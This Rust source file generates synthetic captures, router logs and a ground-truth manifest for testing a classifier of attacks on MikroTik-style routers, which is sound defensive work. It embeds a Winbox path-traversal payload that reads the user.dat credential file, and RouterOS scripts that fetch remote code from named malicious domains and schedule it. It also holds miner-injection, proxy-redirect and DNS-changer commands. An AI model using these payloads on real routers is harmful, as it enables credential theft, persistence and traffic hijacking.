//! Deterministic corpus generator: capture files, log files and a
//! ground-truth manifest for every attack class. The manifest assumes
//! the default classifier thresholds.
//!
//! All generated addresses come from documentation or benchmarking
//! ranges (192.0.2.0/24 sensors, 198.51.100.0/24 benign clients,
//! 198.18.0.0/15 attackers, 203.0.113.0/24 tunnel endpoints); payload
//! markers are synthetic stand-ins.

mod build;
mod manifest;

pub use build::{syn_probe, SplitMix64, TcpFlowBuilder};
pub use manifest::{ExpectedCampaign, ExpectedEvent, Manifest, MANIFEST_SCHEMA};

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::net::Ipv4Addr;
use std::path::Path;

use thiserror::Error;

use crate::classify::{AttackCategory, MINER_MARKER};
use crate::logparse::civil_from_days;
use crate::model::{
    flow_population_digest, stable_hash64, write_capture_file, CanonicalTuple, FlowState, Micros,
    PacketRecord, MICROS_PER_SEC,
};

pub const SCENARIO_NAMES: &[&str] = &[
    "benign_web",
    "cve_traversal",
    "login_winbox",
    "login_ftp",
    "bruteforce_ssh",
    "bruteforce_telnet",
    "mirai_scan",
    "pptp_tunnel",
    "sstp_tunnel_log",
    "script_fetch",
    "miner_inject",
    "dns_changer",
    "campaign_static_port",
    "campaign_api_sweep",
];

/// 2019-07-25, the first collection day the generated corpora mimic.
pub const DEFAULT_START_DAY: i64 = 18_102;

pub const DEFAULT_SENSORS: [&str; 6] = ["au", "br", "cn", "in", "nl", "us"];

#[derive(Debug, Error)]
pub enum SynthError {
    #[error("invalid config: {0}")]
    InvalidConfig(String),
    #[error("cannot write {path}: {source}")]
    Io {
        path: String,
        source: std::io::Error,
    },
    #[error("manifest line {line}: {msg}")]
    Manifest { line: usize, msg: String },
}

#[derive(Debug, Clone)]
pub struct ScenarioConfig {
    pub seed: u64,
    pub duration_days: u32,
    pub sensors: Vec<String>,
    /// Scenario name -> weight; weight scales the scenario's natural
    /// per-sensor-day unit count.
    pub mix: BTreeMap<String, f64>,
    /// Days since the epoch of day 0.
    pub start_day: i64,
}

impl Default for ScenarioConfig {
    fn default() -> ScenarioConfig {
        ScenarioConfig {
            seed: 42,
            duration_days: 1,
            sensors: DEFAULT_SENSORS.iter().map(|s| s.to_string()).collect(),
            mix: ScenarioConfig::full_mix(),
            start_day: DEFAULT_START_DAY,
        }
    }
}

impl ScenarioConfig {
    /// Every scenario enabled at weight 1.
    pub fn full_mix() -> BTreeMap<String, f64> {
        SCENARIO_NAMES
            .iter()
            .map(|n| (n.to_string(), 1.0))
            .collect()
    }

    pub fn validate(&self) -> Result<(), SynthError> {
        if self.duration_days == 0 {
            return Err(SynthError::InvalidConfig("duration_days must be >= 1".into()));
        }
        if self.sensors.is_empty() {
            return Err(SynthError::InvalidConfig("at least one sensor required".into()));
        }
        let mut seen = BTreeSet::new();
        for s in &self.sensors {
            if s.is_empty() || !seen.insert(s) {
                return Err(SynthError::InvalidConfig(format!(
                    "sensor ids must be unique and non-empty (`{s}`)"
                )));
            }
        }
        if self.sensors.len() > 200 {
            return Err(SynthError::InvalidConfig("at most 200 sensors".into()));
        }
        for (name, weight) in &self.mix {
            if !SCENARIO_NAMES.contains(&name.as_str()) {
                return Err(SynthError::InvalidConfig(format!(
                    "unknown scenario `{name}`; valid scenarios: {}",
                    SCENARIO_NAMES.join(", ")
                )));
            }
            if !weight.is_finite() || *weight < 0.0 {
                return Err(SynthError::InvalidConfig(format!(
                    "weight for `{name}` must be finite and >= 0"
                )));
            }
        }
        if !self.mix.values().any(|&w| w > 0.0) {
            return Err(SynthError::InvalidConfig(
                "at least one scenario must have weight > 0".into(),
            ));
        }
        // per-scenario source-port ranges bound the per-sensor-day
        // volume; reject configs that would overflow them
        for (name, base, cap) in [
            ("benign_web", 40.0, 39_000u64),
            ("cve_traversal", 2.0, 900),
            ("bruteforce_ssh", 20.0, 900),
            ("mirai_scan", 5.0, 140),
            ("pptp_tunnel", 3.0, 240),
            ("script_fetch", 2.0, 900),
        ] {
            let w = self.weight(name);
            if scaled(w, base) > cap {
                return Err(SynthError::InvalidConfig(format!(
                    "scenario `{name}` weight {w} exceeds per-day capacity"
                )));
            }
        }
        Ok(())
    }

    fn weight(&self, name: &str) -> f64 {
        self.mix.get(name).copied().unwrap_or(0.0)
    }
}

fn scaled(weight: f64, base: f64) -> u64 {
    (weight * base).round() as u64
}

struct DayCtx {
    sensor: String,
    sensor_ip: Ipv4Addr,
    sensor_index: usize,
    day: u32,
    day_start: Micros,
    rng: SplitMix64,
    packets: Vec<PacketRecord>,
    /// (ts, topics, message)
    logs: Vec<(Micros, String, String)>,
    events: Vec<ExpectedEvent>,
    flows: u64,
    /// Intended (tuple, state) of every emitted flow.
    flow_intents: Vec<(CanonicalTuple, FlowState)>,
    other_lines: u64,
}

impl DayCtx {
    fn at(&self, second: u64) -> Micros {
        self.day_start + (second as i64) * MICROS_PER_SEC
    }

    /// A base second leaving `span` seconds of room before midnight.
    fn base_second(&mut self, span: u64) -> u64 {
        let free = 86_400u64.saturating_sub(span + 1).max(1);
        self.rng.below(free)
    }

    fn log(&mut self, ts: Micros, topics: &str, message: String) {
        self.logs.push((ts, topics.to_string(), message));
    }

    fn expect(&mut self, category: AttackCategory, src: Ipv4Addr, ts_start: Micros, ts_end: Micros) {
        self.events.push(ExpectedEvent {
            category,
            src_ip: src,
            sensor_id: self.sensor.clone(),
            ts_start,
            ts_end,
        });
    }

    /// Record one intended flow, identified by any of its packets.
    fn note_flow(&mut self, pkt: &PacketRecord, state: FlowState) {
        self.flow_intents.push((pkt.canonical_tuple(), state));
        self.flows += 1;
    }

    fn random_seq(&mut self, avoid: u32) -> u32 {
        loop {
            let seq = self.rng.next_u64() as u32;
            if seq != avoid {
                return seq;
            }
        }
    }
}

fn emit_benign_web(ctx: &mut DayCtx, weight: f64) {
    let n = scaled(weight, 40.0);
    for i in 0..n {
        let client = Ipv4Addr::new(198, 51, 100, 1 + ctx.rng.below(30) as u8);
        let base = ctx.base_second(60);
        let start = ctx.at(base);
        let flow = TcpFlowBuilder::new(
            &ctx.sensor,
            client,
            ctx.sensor_ip,
            (20_000 + i) as u16,
            80,
            start,
        )
        .handshake()
        .client_data(b"GET /index.html HTTP/1.1\r\nHost: router.local\r\n\r\n")
        .server_data(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nok\r\n")
        .close()
        .finish();
        ctx.note_flow(&flow[0], FlowState::Closed);
        ctx.packets.extend(flow);
    }
}

fn emit_cve_traversal(ctx: &mut DayCtx, weight: f64) {
    let n = scaled(weight, 2.0);
    for i in 0..n {
        let attacker = Ipv4Addr::new(198, 18, 1, 1 + ctx.rng.below(200) as u8);
        let base = ctx.base_second(30);
        let start = ctx.at(base);
        let payload = b"\x68\x01\x00\x09../.././..//./../flash/rw/store/user.dat\x00".to_vec();
        let flow = TcpFlowBuilder::new(
            &ctx.sensor,
            attacker,
            ctx.sensor_ip,
            (10_000 + i) as u16,
            8291,
            start,
        )
        .handshake()
        .client_data(&payload)
        .server_data(b"\x68\x01\x00\x0a")
        .close()
        .finish();
        let end = flow.last().unwrap().ts;
        ctx.note_flow(&flow[0], FlowState::Closed);
        ctx.packets.extend(flow);
        ctx.expect(AttackCategory::CveExploit, attacker, start, end);
    }
}

fn emit_login(ctx: &mut DayCtx, weight: f64, service: &str) {
    let n = scaled(weight, 2.0);
    for _ in 0..n {
        let ip = Ipv4Addr::new(198, 18, 7, 1 + ctx.rng.below(200) as u8);
        let base = ctx.base_second(1);
        let ts = ctx.at(base);
        ctx.log(
            ts,
            "system,info,account",
            format!("user admin logged in from {ip} via {service}"),
        );
        ctx.expect(AttackCategory::LoginSuccess, ip, ts, ts);
    }
}

fn emit_bruteforce_ssh(ctx: &mut DayCtx, weight: f64) {
    let attempts = scaled(weight, 20.0);
    if attempts == 0 {
        return;
    }
    let src = Ipv4Addr::new(198, 18, 2, 1 + ctx.rng.below(200) as u8);
    let base = ctx.base_second(attempts * 2 + 4);
    for i in 0..attempts {
        let ts = ctx.at(base + i * 2);
        let seq = ctx.random_seq(u32::from(ctx.sensor_ip));
        let probe = syn_probe(&ctx.sensor, src, ctx.sensor_ip, (11_000 + i) as u16, 22, seq, ts);
        ctx.note_flow(&probe, FlowState::SynOnly);
        ctx.packets.push(probe);
    }
    // five attempts two seconds apart fit the default 60 s window
    if attempts >= 5 {
        ctx.expect(
            AttackCategory::BruteForce,
            src,
            ctx.at(base),
            ctx.at(base + (attempts - 1) * 2),
        );
    }
}

fn emit_bruteforce_telnet(ctx: &mut DayCtx, weight: f64) {
    if weight <= 0.0 {
        return;
    }
    let flows = 15u64;
    let failures = scaled(weight, 60.0);
    let src = Ipv4Addr::new(198, 18, 3, 1 + ctx.rng.below(200) as u8);
    let base = ctx.base_second(flows * 2 + failures + 30);
    for i in 0..flows {
        let ts = ctx.at(base + i * 2);
        let seq = ctx.random_seq(u32::from(ctx.sensor_ip));
        let probe = syn_probe(&ctx.sensor, src, ctx.sensor_ip, (12_000 + i) as u16, 23, seq, ts);
        ctx.note_flow(&probe, FlowState::SynOnly);
        ctx.packets.push(probe);
    }
    let users = ["root", "admin", "user", "guest", "support"];
    for i in 0..failures {
        let ts = ctx.at(base + flows * 2 + 10 + i);
        let user = users[(i % users.len() as u64) as usize];
        ctx.log(
            ts,
            "system,error,critical",
            format!("login failure for user {user} from {src} via telnet"),
        );
    }
    ctx.expect(
        AttackCategory::BruteForce,
        src,
        ctx.at(base),
        ctx.at(base + flows * 2 + 10 + failures.saturating_sub(1)),
    );
}

fn emit_mirai_scan(ctx: &mut DayCtx, weight: f64) {
    let sources = scaled(weight, 5.0);
    for s in 0..sources {
        let src = Ipv4Addr::new(
            198,
            18,
            40 + (s / 250) as u8,
            1 + (s % 250) as u8,
        );
        // probes spread across the day so the brute-force window never
        // fills from the fingerprinted probes alone
        let base = ctx.rng.below(10_000);
        let mut first = None;
        let mut last = 0;
        for k in 0..6u64 {
            let ts = ctx.at(base + k * 10_800);
            first.get_or_insert(ts);
            last = ts;
            let probe = syn_probe(
                &ctx.sensor,
                src,
                ctx.sensor_ip,
                (13_000 + s * 6 + k) as u16,
                23,
                u32::from(ctx.sensor_ip),
                ts,
            );
            ctx.note_flow(&probe, FlowState::SynOnly);
            ctx.packets.push(probe);
        }
        ctx.expect(AttackCategory::MiraiScan, src, first.unwrap(), last);
    }
}

fn emit_pptp_tunnel(ctx: &mut DayCtx, weight: f64) {
    let sessions = scaled(weight, 3.0);
    if sessions == 0 {
        return;
    }
    let base = ctx.base_second(sessions * 120 + 60);
    for i in 0..sessions {
        let endpoint = Ipv4Addr::new(203, 0, 113, 40 + ctx.rng.below(8) as u8);
        let start = ctx.at(base + i * 120);
        let flow = TcpFlowBuilder::new(
            &ctx.sensor,
            ctx.sensor_ip,
            endpoint,
            (15_000 + i) as u16,
            1723,
            start,
        )
        .handshake()
        .client_data(&crate::classify::encode_start_control_request())
        .server_data(&crate::classify::encode_start_control_reply(1))
        .close()
        .finish();
        let end = flow.last().unwrap().ts;
        ctx.note_flow(&flow[0], FlowState::Closed);
        ctx.packets.extend(flow);
        ctx.expect(AttackCategory::TunnelEstablished, endpoint, start, end);
    }
}

fn emit_sstp_tunnel_log(ctx: &mut DayCtx, weight: f64) {
    let sessions = scaled(weight, 3.0);
    if sessions == 0 {
        return;
    }
    let base = ctx.base_second(sessions * 300 + 60);
    for i in 0..sessions {
        let endpoint = Ipv4Addr::new(203, 0, 113, 50 + ctx.rng.below(6) as u8);
        let ts_settings = ctx.at(base + i * 300);
        let ts_established = ctx.at(base + i * 300 + 5);
        ctx.log(
            ts_settings,
            "system,info",
            "SSTP server settings changed by admin".to_string(),
        );
        ctx.expect(
            AttackCategory::OtherSignature,
            Ipv4Addr::UNSPECIFIED,
            ts_settings,
            ts_settings,
        );
        ctx.log(
            ts_established,
            "sstp,ppp,info",
            format!("sstp tunnel established to {endpoint}"),
        );
        ctx.other_lines += 1;
        ctx.expect(
            AttackCategory::TunnelEstablished,
            endpoint,
            ts_established,
            ts_established,
        );
    }
}

fn script_body(site: &str, tag: &str) -> String {
    format!(
        "/tool fetch url=\"http://{site}/{tag}.rsc\" mode=http dst-path={tag}.rsc; \
         /system scheduler add name=u-{tag} interval=1d on-event={tag}"
    )
}

const SCRIPT_SITES: [&str; 6] = [
    "7standby.com",
    "phonemus.net",
    "hitsmoby.net",
    "1awesome.net",
    "takebad1.com",
    "up0.bit:31415",
];

fn emit_script_fetch(ctx: &mut DayCtx, weight: f64) {
    let scripts = scaled(weight, 2.0);
    for i in 0..scripts {
        let site = *ctx.rng.pick(&SCRIPT_SITES);
        let tag = format!("a{}-{}-{}", ctx.sensor, ctx.day, i);
        let body = script_body(site, &tag);
        if i % 2 == 0 {
            // logged on the router
            let base = ctx.base_second(10);
            let ts = ctx.at(base);
            ctx.log(
                ts,
                "system,info",
                format!("new script scheduled by admin (script: {body})"),
            );
            ctx.log(
                ts + 2 * MICROS_PER_SEC,
                "system,info",
                format!("fetch: file {tag}.rsc downloaded"),
            );
            ctx.expect(AttackCategory::ScriptScheduled, Ipv4Addr::UNSPECIFIED, ts, ts);
        } else {
            // log entry suppressed; the script only crosses the wire
            let attacker = Ipv4Addr::new(198, 18, 6, 1 + ctx.rng.below(200) as u8);
            let base = ctx.base_second(30);
            let start = ctx.at(base);
            let mut payload = b"\x00\x1bapi ".to_vec();
            payload.extend_from_slice(body.as_bytes());
            let flow = TcpFlowBuilder::new(
                &ctx.sensor,
                attacker,
                ctx.sensor_ip,
                (14_000 + i) as u16,
                8728,
                start,
            )
            .handshake()
            .client_data(&payload)
            .close()
            .finish();
            let end = flow.last().unwrap().ts;
            ctx.note_flow(&flow[0], FlowState::Closed);
            ctx.packets.extend(flow);
            ctx.expect(AttackCategory::ScriptScheduled, attacker, start, end);
        }
    }
}

fn emit_miner_inject(ctx: &mut DayCtx, weight: f64) {
    let n = scaled(weight, 1.0);
    for i in 0..n {
        let base = ctx.base_second(10);
        let ts = ctx.at(base);
        let body = format!(
            "/ip proxy set enabled=yes; \
             /ip firewall nat add chain=dstnat action=redirect to-ports=8080; \
             /tool fetch url=\"http://takebad1.com/m{i}.js\"; inject {MINER_MARKER}"
        );
        ctx.log(
            ts,
            "system,info",
            format!("new script scheduled by admin (script: {body})"),
        );
        ctx.expect(AttackCategory::ScriptScheduled, Ipv4Addr::UNSPECIFIED, ts, ts);
        ctx.expect(AttackCategory::MinerInjection, Ipv4Addr::UNSPECIFIED, ts, ts);
    }
}

fn emit_dns_changer(ctx: &mut DayCtx, weight: f64) {
    let n = scaled(weight, 1.0);
    for i in 0..n {
        let base = ctx.base_second(10);
        let ts = ctx.at(base);
        let body = format!(
            "/ip dns set servers=203.0.113.53 allow-remote-requests=yes; \
             /system scheduler add name=d{i} interval=1h on-event=d{i}"
        );
        ctx.log(
            ts,
            "system,info",
            format!("new script scheduled by admin (script: {body})"),
        );
        ctx.expect(AttackCategory::ScriptScheduled, Ipv4Addr::UNSPECIFIED, ts, ts);
        ctx.expect(AttackCategory::DnsChanger, Ipv4Addr::UNSPECIFIED, ts, ts);
    }
}

const STATIC_PORT_CAMPAIGN_IP: Ipv4Addr = Ipv4Addr::new(198, 18, 100, 171);
const API_SWEEP_CAMPAIGN_IP: Ipv4Addr = Ipv4Addr::new(198, 18, 200, 70);
const STATIC_SRC_PORT: u16 = 55_453;

fn emit_campaign_static_port(ctx: &mut DayCtx, weight: f64) -> Option<ExpectedCampaign> {
    let flows = scaled(weight, 500.0);
    if flows == 0 {
        return None;
    }
    // same-tuple probes must sit farther apart than the flow idle
    // timeout so each probe assembles as its own flow
    for i in 0..flows {
        let ts = ctx.at(1000 + (i / 12) * 90 + (i % 12));
        let seq = ctx.random_seq(u32::from(ctx.sensor_ip));
        let probe = syn_probe(
            &ctx.sensor,
            STATIC_PORT_CAMPAIGN_IP,
            ctx.sensor_ip,
            STATIC_SRC_PORT,
            1000 + (i % 12) as u16,
            seq,
            ts,
        );
        ctx.note_flow(&probe, FlowState::SynOnly);
        ctx.packets.push(probe);
    }
    Some(ExpectedCampaign {
        src_ip: STATIC_PORT_CAMPAIGN_IP,
        trigger: "STATIC_SRC_PORT".to_string(),
        flow_count: flows,
        ports: (1000..1012).collect(),
        sensors: BTreeSet::from([ctx.sensor.clone()]),
    })
}

fn emit_campaign_api_sweep(ctx: &mut DayCtx, weight: f64, sensor_count: usize) -> u64 {
    let total = scaled(weight, 200.0);
    let per_sensor = total / sensor_count as u64
        + ((ctx.sensor_index as u64) < total % sensor_count as u64) as u64;
    for i in 0..per_sensor {
        let ts = ctx.at(2000 + i * 2);
        let seq = ctx.random_seq(u32::from(ctx.sensor_ip));
        let probe = syn_probe(
            &ctx.sensor,
            API_SWEEP_CAMPAIGN_IP,
            ctx.sensor_ip,
            (17_000 + i) as u16,
            8728,
            seq,
            ts,
        );
        ctx.note_flow(&probe, FlowState::SynOnly);
        ctx.packets.push(probe);
    }
    per_sensor
}

/// Generate per-sensor per-day capture files, hourly log files and the
/// ground-truth manifest (written last). Same config and seed produce
/// byte-identical output.
pub fn generate_corpus(config: &ScenarioConfig, out_dir: &Path) -> Result<Manifest, SynthError> {
    config.validate()?;
    let io_err = |path: &Path| {
        let p = path.display().to_string();
        move |source: std::io::Error| SynthError::Io {
            path: p.clone(),
            source,
        }
    };

    let mut manifest = Manifest {
        seed: config.seed,
        ..Default::default()
    };
    let mut sweep_total = 0u64;
    let mut sweep_sensors: BTreeSet<String> = BTreeSet::new();
    let mut flow_intents: Vec<(String, CanonicalTuple, FlowState)> = Vec::new();

    for (sensor_index, sensor) in config.sensors.iter().enumerate() {
        let sensor_dir = out_dir.join(sensor);
        let pcap_dir = sensor_dir.join("pcap");
        let log_dir = sensor_dir.join("logs");
        fs::create_dir_all(&pcap_dir).map_err(io_err(&pcap_dir))?;
        fs::create_dir_all(&log_dir).map_err(io_err(&log_dir))?;

        for day in 0..config.duration_days {
            let abs_day = config.start_day + day as i64;
            let mut ctx = DayCtx {
                sensor: sensor.clone(),
                sensor_ip: Ipv4Addr::new(192, 0, 2, 1 + sensor_index as u8),
                sensor_index,
                day,
                day_start: abs_day * 86_400 * MICROS_PER_SEC,
                rng: SplitMix64::new(stable_hash64(&[
                    &config.seed.to_be_bytes(),
                    sensor.as_bytes(),
                    &day.to_be_bytes(),
                ])),
                packets: Vec::new(),
                logs: Vec::new(),
                events: Vec::new(),
                flows: 0,
                flow_intents: Vec::new(),
                other_lines: 0,
            };

            let reseed = |name: &str| {
                SplitMix64::new(stable_hash64(&[
                    &config.seed.to_be_bytes(),
                    sensor.as_bytes(),
                    &day.to_be_bytes(),
                    name.as_bytes(),
                ]))
            };
            ctx.rng = reseed("benign_web");
            emit_benign_web(&mut ctx, config.weight("benign_web"));
            ctx.rng = reseed("cve_traversal");
            emit_cve_traversal(&mut ctx, config.weight("cve_traversal"));
            ctx.rng = reseed("login_winbox");
            emit_login(&mut ctx, config.weight("login_winbox"), "winbox");
            ctx.rng = reseed("login_ftp");
            emit_login(&mut ctx, config.weight("login_ftp"), "ftp");
            ctx.rng = reseed("bruteforce_ssh");
            emit_bruteforce_ssh(&mut ctx, config.weight("bruteforce_ssh"));
            ctx.rng = reseed("bruteforce_telnet");
            emit_bruteforce_telnet(&mut ctx, config.weight("bruteforce_telnet"));
            ctx.rng = reseed("mirai_scan");
            emit_mirai_scan(&mut ctx, config.weight("mirai_scan"));
            ctx.rng = reseed("pptp_tunnel");
            emit_pptp_tunnel(&mut ctx, config.weight("pptp_tunnel"));
            ctx.rng = reseed("sstp_tunnel_log");
            emit_sstp_tunnel_log(&mut ctx, config.weight("sstp_tunnel_log"));
            ctx.rng = reseed("script_fetch");
            emit_script_fetch(&mut ctx, config.weight("script_fetch"));
            ctx.rng = reseed("miner_inject");
            emit_miner_inject(&mut ctx, config.weight("miner_inject"));
            ctx.rng = reseed("dns_changer");
            emit_dns_changer(&mut ctx, config.weight("dns_changer"));
            if day == 0 && sensor_index == 0 {
                if let Some(campaign) =
                    emit_campaign_static_port(&mut ctx, config.weight("campaign_static_port"))
                {
                    manifest.campaigns.push(campaign);
                }
            }
            if day == 0 {
                let emitted = emit_campaign_api_sweep(
                    &mut ctx,
                    config.weight("campaign_api_sweep"),
                    config.sensors.len(),
                );
                if emitted > 0 {
                    sweep_total += emitted;
                    sweep_sensors.insert(sensor.clone());
                }
            }

            let (y, m, d) = civil_from_days(abs_day);
            let date = format!("{y:04}-{m:02}-{d:02}");

            if !ctx.packets.is_empty() {
                ctx.packets.sort_by_key(|p| p.ts);
                let path = pcap_dir.join(format!("{date}.pcap"));
                let mut buf = Vec::new();
                write_capture_file(&mut buf, &ctx.packets).map_err(io_err(&path))?;
                fs::write(&path, buf).map_err(io_err(&path))?;
            }
            if !ctx.logs.is_empty() {
                ctx.logs.sort_by_key(|entry| entry.0);
                let mut by_hour: BTreeMap<i64, String> = BTreeMap::new();
                for (ts, topics, message) in &ctx.logs {
                    let day_second = (ts - ctx.day_start) / MICROS_PER_SEC;
                    let hour = day_second / 3600;
                    let (hh, mm, ss) = (
                        day_second / 3600,
                        (day_second % 3600) / 60,
                        day_second % 60,
                    );
                    by_hour.entry(hour).or_default().push_str(&format!(
                        "{date} {hh:02}:{mm:02}:{ss:02} {topics} {message}\n"
                    ));
                }
                for (hour, text) in by_hour {
                    let path = log_dir.join(format!("{date}-{hour:02}.log"));
                    fs::write(&path, text).map_err(io_err(&path))?;
                }
            }

            manifest.events.append(&mut ctx.events);
            manifest.expected_flows += ctx.flows;
            manifest.expected_other_log_lines += ctx.other_lines;
            flow_intents.extend(
                ctx.flow_intents
                    .iter()
                    .map(|(tuple, state)| (sensor.clone(), *tuple, *state)),
            );
        }
    }

    if sweep_total > 0 {
        manifest.campaigns.push(ExpectedCampaign {
            src_ip: API_SWEEP_CAMPAIGN_IP,
            trigger: "SERVICE_SWEEP".to_string(),
            flow_count: sweep_total,
            ports: BTreeSet::from([8728]),
            sensors: sweep_sensors,
        });
    }
    manifest.campaigns.sort_by(|a, b| {
        b.flow_count
            .cmp(&a.flow_count)
            .then_with(|| a.src_ip.cmp(&b.src_ip))
    });
    manifest.events.sort_by(|a, b| {
        (a.ts_start, a.category, &a.sensor_id, a.src_ip).cmp(&(
            b.ts_start,
            b.category,
            &b.sensor_id,
            b.src_ip,
        ))
    });
    manifest.expected_flow_digest = flow_population_digest(
        flow_intents
            .iter()
            .map(|(sensor, tuple, state)| (sensor.as_str(), *tuple, *state)),
    );

    fs::create_dir_all(out_dir).map_err(io_err(out_dir))?;
    let manifest_path = out_dir.join("manifest.txt");
    manifest.save(&manifest_path)?;
    Ok(manifest)
}
